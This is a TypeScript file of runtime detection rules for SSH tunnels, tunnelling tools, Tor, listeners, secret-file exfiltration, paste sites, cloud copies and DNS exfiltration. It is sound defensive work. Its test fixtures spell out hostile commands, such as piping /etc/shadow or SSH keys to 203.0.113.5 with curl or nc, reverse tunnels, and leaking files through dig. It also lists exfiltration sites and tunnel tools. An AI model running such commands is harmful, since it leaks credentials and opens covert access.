import { defineRule } from '@cws/core'
import { isStartedBy } from '../ancestry.ts'
import { RAN } from '../authors.ts'
import { DOWNLOADERS, INTERPRETERS, NETCATS, SHELL_PROGRAMS } from '../names.ts'

/** Options of ssh before the host: flags, and those with a value of their own. */
const SSH_OPTIONS = '^(?:-(?:[46AaCfGgKkMNnqsTtVvXxYy]+|[46AaCfGgKkMNnqsTtVvXxYy]*[BbcEeFIiJLlmOopQSWw]\\s*\\S+)\\s+)*'

/** Editors that work on another host through a tunnel of their own, as distributions and snaps lay them out. */
const EDITORS = /^\/(?:usr\/share|opt|snap\/[a-z-]+\/\d+\/usr\/share)\/(?:[a-z-]+\/)?(?:code|code-insiders|codium|cursor|windsurf)$/

const TUNNEL = {
  'exec.file.name': ['ssh', 'autossh', 'dbclient'],
  'exec.args': { regex: `${SSH_OPTIONS}-[46AaCfgKkMNnqsTtVvXxYy]*[RDw]\\s*\\S` },
} as const
const BY_EDITOR = {
  'exec.file.name': 'ssh',
  'exec.args': '-T -D 41517 -o ConnectTimeout=15 dev',
  'process.parent.file.path': '/usr/share/code/code',
} as const

export const sshTunnelOfEditor = defineRule({
  id: 'ssh-tunnel-of-editor',
  name: 'An editor opened a tunnel by SSH',
  severity: 'low',
  tags: ['mitre:T1572'],
  on: 'exec',
  where: TUNNEL,
  when: (event) => isStartedBy(event, EDITORS),
  groupBy: ['container.id', 'process.user', 'process.parent.file.path'],
  message: `${RAN}: an editor that works on another host reaches it so. Extensions of the editor may do it too.`,
  advice: 'None if somebody works on that host. If not, look at the extensions of the editor.',
  benign: ['Everybody who works on another host with such an editor'],
  tests: {
    fires: [BY_EDITOR, { ...BY_EDITOR, 'process.parent.file.path': '/snap/code/150/usr/share/code/code', 'process.parent.file.uid': 0 }],
    silent: [
      { ...BY_EDITOR, 'process.parent.file.path': '/usr/bin/bash' },
      { ...BY_EDITOR, 'process.parent.file.path': '/home/ann/code/code', 'process.parent.file.uid': 1000 },
      { ...BY_EDITOR, 'exec.args': 'dev uptime' },
    ],
  },
})

export const sshTunnelOpened = defineRule({
  id: 'ssh-tunnel-opened',
  name: 'SSH opened a way back into this network',
  severity: 'medium',
  tags: ['mitre:T1572', 'mitre:T1090.001'],
  on: 'exec',
  where: TUNNEL,
  when: (event) => !isStartedBy(event, EDITORS),
  groupBy: ['container.id', 'process.user', 'exec.args'],
  message: `${RAN} makes ports of this network reachable from the other host (-R), or this host a proxy into another one (-D, -w), past every firewall.`,
  advice: 'Ask the user whether it was them. If not, end the process and see who owns the host at the other end.',
  benign: ['Developers, and autossh where a tunnel is wanted'],
  tests: {
    fires: [
      { 'exec.file.name': 'ssh', 'exec.args': '-R 2222:localhost:22 a@203.0.113.5' },
      { 'exec.file.name': 'ssh', 'exec.args': '-i /tmp/k -p 443 -fND1080 a@203.0.113.5' },
      { ...BY_EDITOR, 'process.parent.file.path': '/tmp/code' },
      { ...BY_EDITOR, 'process.parent.file.uid': 1000 },
      { 'exec.file.name': 'ssh', 'exec.args': '-o StrictHostKeyChecking=no -NfR 8080:db:5432 a@203.0.113.5' },
    ],
    silent: [
      { 'exec.file.name': 'ssh', 'exec.args': '-i /home/ann/.ssh/id_ed25519 host uptime' },
      { 'exec.file.name': 'ssh', 'exec.args': 'host grep -R x /etc' },
      BY_EDITOR,
      { 'exec.file.name': 'ssh', 'exec.args': '-L 5432:localhost:5432 db' },
      { 'exec.file.name': 'sshd', 'exec.args': '-D -R' },
    ],
  },
})

export const tunnelProgram = defineRule({
  id: 'tunnel-program',
  name: 'A program that tunnels through firewalls was started',
  severity: 'medium',
  tags: ['mitre:T1572', 'mitre:T1090', 'mitre:T1219'],
  on: 'exec',
  where: {
    'exec.file.name': [
      ...['chisel', 'chisel_*', 'ngrok', 'frpc', 'frps', 'bore', 'localtonet', 'rathole', 'ligolo*', 'gost', 'revsocks'],
      ...[
        'pagekite*',
        'tmate',
        '3proxy',
        'microsocks',
        'dnscat*',
        'iodine',
        'iodined',
        'ptunnel*',
        'stowaway*',
        'ew_for_linux*',
        'earthworm',
      ],
      ...['cloudflared', 'pinggy', 'zrok', 'tunnelto', 'wstunnel', 'pwncat*', 'dns2tcpc', 'icmptunnel', 'proxychains4', 'sshuttle'],
    ],
  },
  groupBy: ['container.id', 'exec.file.path'],
  message: `${RAN} leads connections through a firewall, or lets somebody outside into this network.`,
  advice:
    'Ask whether somebody of yours uses it. If not, end it, keep a copy of its settings (they name the other end) and find how it came here.',
  benign: ['Operators and developers who use such a tunnel on purpose: except its path in `tune`'],
  tests: {
    fires: [
      { 'exec.file.name': 'chisel', 'exec.args': 'client 203.0.113.5:80 R:socks' },
      { 'exec.file.name': 'frpc', 'exec.args': '-c frpc.ini' },
      { 'exec.file.name': 'ligolo-agent' },
    ],
    silent: [{ 'exec.file.name': 'ssh' }, { 'exec.file.name': 'ngrok.service' }, { 'exec.file.name': 'border' }],
  },
})

export const torStarted = defineRule({
  id: 'tor-started',
  name: 'Tor was started',
  severity: 'medium',
  tags: ['mitre:T1090.003'],
  on: 'exec',
  where: {
    any: [
      { 'exec.file.name': ['tor', 'torsocks', 'torify', 'obfs4proxy', 'lyrebird', 'snowflake-client', 'meek-client', 'arti'] },
      { 'exec.file.name': DOWNLOADERS, 'exec.args': { regex: '\\b[a-z2-7]{56}\\.onion\\b|\\.tor2web\\.|\\.onion\\.(?:ws|ly|pet|sh)\\b' } },
    ],
  },
  groupBy: ['container.id', 'exec.file.path'],
  message: `${RAN} reaches, or is reached by, hosts that nobody can name. Miners and extortionists hide their servers so.`,
  advice: 'Ask whether somebody of yours uses Tor. If not, see what the parent is and how it came here.',
  benign: ['A relay or an onion service of your own', 'Privacy tools on a desktop'],
  tests: {
    fires: [
      { 'exec.file.name': 'tor', 'exec.args': '-f /tmp/torrc' },
      { 'exec.file.name': 'curl', 'exec.args': `http://${'abcdefg2'.repeat(7)}.onion.ws/x` },
    ],
    silent: [
      { 'exec.file.name': 'curl', 'exec.args': 'https://www.torproject.org/' },
      { 'exec.file.name': 'tar', 'exec.args': 'xf tor.tar' },
    ],
  },
})

export const listenerByHand = defineRule({
  id: 'listener-by-hand',
  name: 'A port was opened by hand',
  severity: 'low',
  tags: ['mitre:T1571', 'mitre:T1105'],
  on: 'exec',
  where: {
    any: [
      {
        'exec.file.name': ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
        'exec.args': { regex: '(?:^|\\s)(?:-[a-zA-Z]*l|--listen)' },
      },
      { 'exec.file.name': ['socat', 'socat1'], 'exec.args': { regex: '(?i)(?:tcp|udp|sctp|openssl)[46]?-l(?:isten)?:' } },
      { 'exec.file.name': ['python*', 'pypy*'], 'exec.args': { regex: '-m\\s*(?:http\\.server|SimpleHTTPServer|pyftpdlib)' } },
      { 'exec.file.name': 'php*', 'exec.args': { regex: '(?:^|\\s)-S\\s*\\S+:\\d+' } },
      { 'exec.file.name': 'busybox', 'exec.args': { regex: '^(?:nc\\s.*-[a-z]*l|httpd\\b)' } },
      { 'exec.file.name': 'ruby*', 'exec.args': { regex: '-run\\s.*\\bhttpd\\b' } },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'exec.file.name'],
  message: `${RAN} waits for connections: files are carried off, or a shell is offered, by such listeners.`,
  advice: 'Ask the user whether it was them, and see who connected.',
  benign: ['Developers who try something', 'An administrator who carries a file from host to host'],
  tests: {
    fires: [
      { 'exec.file.name': 'nc.openbsd', 'exec.args': '-lvnp 4444' },
      { 'exec.file.name': 'socat', 'exec.args': 'TCP-LISTEN:8080,fork TCP:db:5432' },
      { 'exec.file.name': 'python3.12', 'exec.args': '-m http.server 8000' },
      { 'exec.file.name': 'php8.2', 'exec.args': '-S 0.0.0.0:8000' },
    ],
    silent: [
      { 'exec.file.name': 'nc.openbsd', 'exec.args': '-z localhost 5432' },
      { 'exec.file.name': 'socat', 'exec.args': '- TCP:localhost:80' },
      { 'exec.file.name': 'python3.12', 'exec.args': '-m venv .venv' },
      { 'exec.file.name': 'ls', 'exec.args': '-l' },
    ],
  },
})

/** Files that nobody sends anywhere without a reason. */
const SECRET_FILE =
  '@?(?:/etc/(?:passwd|g?shadow|sudoers|ssh/|kubernetes/)|/root/|\\S*/\\.(?:ssh|aws|kube|gnupg|docker|config/gcloud)/|/proc/|\\S*(?:id_rsa|id_ed25519|\\.env|\\.npmrc|\\.git-credentials|wallet\\.dat|\\.kdbx)\\b)'

export const secretSentAway = defineRule({
  id: 'secret-sent-away',
  name: 'A file of secrets was sent away',
  severity: 'high',
  tags: ['mitre:T1048', 'mitre:T1567', 'mitre:T1005'],
  on: 'exec',
  where: {
    any: [
      {
        'exec.file.name': 'curl',
        'exec.args': {
          regex: `(?:^|\\s)(?:-T|--upload-file|-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form)[\\s=]*(?:\\S+=)?["']?${SECRET_FILE}`,
        },
      },
      { 'exec.file.name': ['wget', 'wget2'], 'exec.args': { regex: `--(?:post|body)-file[\\s=]${SECRET_FILE}` } },
      {
        'exec.file.name': SHELL_PROGRAMS,
        all: [
          { 'exec.args': ['*nc *', '*ncat*', '*netcat*', '*telnet*', '*/dev/tcp/*'] },
          {
            'exec.args': {
              regex: `(?:nc|ncat|netcat|telnet)\\s[^|;&]*<\\s*${SECRET_FILE}|cat\\s+${SECRET_FILE}[^|;&]*\\|\\s*(?:nc|ncat|netcat|curl|socat)\\b|>\\s*/dev/tcp/\\S+\\s*<\\s*${SECRET_FILE}`,
            },
          },
        ],
      },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} sends a file to another host in which passwords, keys or accounts stand.`,
  advice: 'See which host it went to. Treat all that stands in the file as known to others: change the passwords, replace the keys.',
  benign: ['An administrator who moves a key from host to host'],
  tests: {
    fires: [
      { 'exec.file.name': 'curl', 'exec.args': '-s -F file=@/etc/shadow http://203.0.113.5/' },
      { 'exec.file.name': 'curl', 'exec.args': '--data-binary @/home/ann/.ssh/id_rsa http://203.0.113.5/' },
      { 'exec.file.name': 'curl', 'exec.args': '-T /root/backup.tar http://203.0.113.5/' },
      { 'exec.file.name': 'wget', 'exec.args': '--post-file=/etc/passwd http://203.0.113.5/' },
      { 'exec.file.name': 'bash', 'exec.args': '-c nc -w 3 203.0.113.5 80 < /root/.ssh/id_ed25519' },
      { 'exec.file.name': 'dash', 'exec.args': '-c cat /etc/shadow | nc 203.0.113.5 80' },
    ],
    silent: [
      { 'exec.file.name': 'curl', 'exec.args': '--data-binary @coverage.xml https://ci.example/upload' },
      { 'exec.file.name': 'curl', 'exec.args': '-d {"a":1} http://localhost/root/' },
      { 'exec.file.name': 'curl', 'exec.args': '-fsSL https://example.com/x -o /root/x' },
      { 'exec.file.name': 'dash', 'exec.args': '-c cat /etc/passwd | grep root' },
    ],
  },
})

export const pasteSiteContacted = defineRule({
  id: 'paste-site-contacted',
  name: 'A site where anybody can leave files was called',
  severity: 'medium',
  tags: ['mitre:T1567.003', 'mitre:T1102', 'mitre:T1105'],
  on: 'exec',
  where: {
    'exec.file.name': [...DOWNLOADERS, ...NETCATS, ...INTERPRETERS, ...SHELL_PROGRAMS],
    all: [
      {
        'exec.args': [
          '*transfer.sh*',
          '*file.io*',
          '*paste.ee*',
          '*pastebin.com*',
          '*bashupload.com*',
          '*temp.sh*',
          '*termbin.com*',
          '*ix.io*',
          '*0x0.st*',
          '*gofile.io*',
          '*anonfiles.com*',
          '*oshi.at*',
          '*catbox.moe*',
          '*hastebin.com*',
          '*dpaste.*',
          '*rentry.co*',
          '*webhook.site*',
          '*requestbin.*',
          '*pipedream.net*',
          '*interact.sh*',
          '*oast.*',
          '*burpcollaborator.net*',
          '*dnslog.cn*',
          '*ngrok*',
          '*serveo.net*',
          '*trycloudflare.com*',
        ],
      },
      {
        'exec.args': {
          regex:
            '\\b(?:transfer\\.sh|file\\.io|paste\\.ee|pastebin\\.com|bashupload\\.com|temp\\.sh|termbin\\.com|ix\\.io|0x0\\.st|gofile\\.io|anonfiles\\.com|oshi\\.at|catbox\\.moe|hastebin\\.com|dpaste\\.\\w+|rentry\\.co|webhook\\.site|requestbin\\.\\w+|pipedream\\.net|interact\\.sh|oast\\.\\w+|burpcollaborator\\.net|dnslog\\.cn|ngrok(?:-free)?\\.(?:io|app)|serveo\\.net|trycloudflare\\.com)\\b',
        },
      },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} names a site that takes files and requests of anybody. Tools are fetched from there, and what was stolen is left there.`,
  advice: 'Look at what was fetched or sent. If nobody of yours did it, block the site and see what else that session did.',
  benign: ['Developers who share a file or try a webhook'],
  tests: {
    fires: [
      { 'exec.file.name': 'curl', 'exec.args': '--upload-file /tmp/a.tgz https://transfer.sh/a.tgz' },
      { 'exec.file.name': 'wget', 'exec.args': '-qO- https://pastebin.com/raw/AbCd' },
      { 'exec.file.name': 'bash', 'exec.args': '-c tar c /srv | nc termbin.com 9999' },
    ],
    silent: [
      { 'exec.file.name': 'curl', 'exec.args': 'https://example.com/file.iota' },
      { 'exec.file.name': 'git', 'exec.args': 'grep pastebin.com' },
    ],
  },
})

export const cloudCopyTool = defineRule({
  id: 'cloud-copy-tool',
  name: 'Files were copied to a cloud store',
  severity: 'low',
  tags: ['mitre:T1567.002', 'mitre:T1537'],
  on: 'exec',
  where: {
    any: [
      { 'exec.file.name': 'rclone', 'exec.args': { regex: '\\b(?:copy|copyto|sync|move|moveto|bisync|rcat|mount|serve)\\b' } },
      {
        'exec.file.name': [
          'mega-put',
          'mega-cmd',
          'mega-exec',
          'megaput',
          'megacopy',
          'megatools',
          'gdrive',
          'dropbox_uploader.sh',
          'croc',
          'wormhole',
          'magic-wormhole',
        ],
      },
      { 'exec.file.name': 'rsync', 'exec.args': { regex: '(?:^|\\s)rsync://|\\s\\S+::\\S' } },
    ],
  },
  groupBy: ['container.id', 'process.user', 'exec.file.path'],
  message: `${RAN} copies files to a store or a host elsewhere. Backups do it, and so do those who carry data off.`,
  advice: 'See whether the account at the other end is one of yours.',
  benign: ['Backups', 'Users who share files'],
  tests: {
    fires: [
      { 'exec.file.name': 'rclone', 'exec.args': '--config /tmp/r.conf copy /srv remote:x' },
      { 'exec.file.name': 'mega-put', 'exec.args': 'a.tgz' },
      { 'exec.file.name': 'rsync', 'exec.args': '-a /srv/ 203.0.113.5::x' },
    ],
    silent: [
      { 'exec.file.name': 'rclone', 'exec.args': 'version' },
      { 'exec.file.name': 'rsync', 'exec.args': '-a src/ build/' },
    ],
  },
})

export const dnsTunnel = defineRule({
  id: 'data-in-dns-names',
  name: 'Data was sent in the names of DNS requests',
  severity: 'medium',
  tags: ['mitre:T1048.003', 'mitre:T1071.004'],
  on: 'exec',
  where: {
    any: [
      {
        'exec.file.name': ['dig', 'nslookup', 'host', 'drill', 'kdig', 'ping', 'resolvectl'],
        'exec.args': { regex: '(?:^|\\s)[A-Za-z0-9+/=_-]{48,}\\.[A-Za-z0-9.-]+' },
      },
      {
        'exec.file.name': SHELL_PROGRAMS,
        all: [
          { 'exec.args': ['*base64*', '*base32*', '*xxd*', '*od *', '*hexdump*'] },
          { 'exec.args': { regex: '(?s)(?:base64|base32|xxd|od\\s|hexdump).*\\b(?:dig|nslookup|host|drill|ping)\\s[^|;]*\\$' } },
        ],
      },
    ],
  },
  groupBy: ['container.id', 'process.sid', 'process.user'],
  message: `${RAN} asks for a name that holds data: requests for names leave almost every network, and whoever owns the domain reads them.`,
  advice: 'See whose domain it is, and look at what was read before. Block the domain.',
  benign: ['Looking up long names of services by hand, such as those of DKIM'],
  tests: {
    fires: [
      { 'exec.file.name': 'dig', 'exec.args': `+short ${'0123456789abcdef'.repeat(3)}.x.example` },
      { 'exec.file.name': 'bash', 'exec.args': '-c for b in $(xxd -p /etc/passwd); do dig $b.x.example; done' },
    ],
    silent: [
      { 'exec.file.name': 'dig', 'exec.args': '+short _acme-challenge.www.example.com TXT' },
      { 'exec.file.name': 'bash', 'exec.args': '-c base64 x > y; ping -c 1 host' },
      { 'exec.file.name': 'host', 'exec.args': 'www.example.com' },
    ],
  },
})
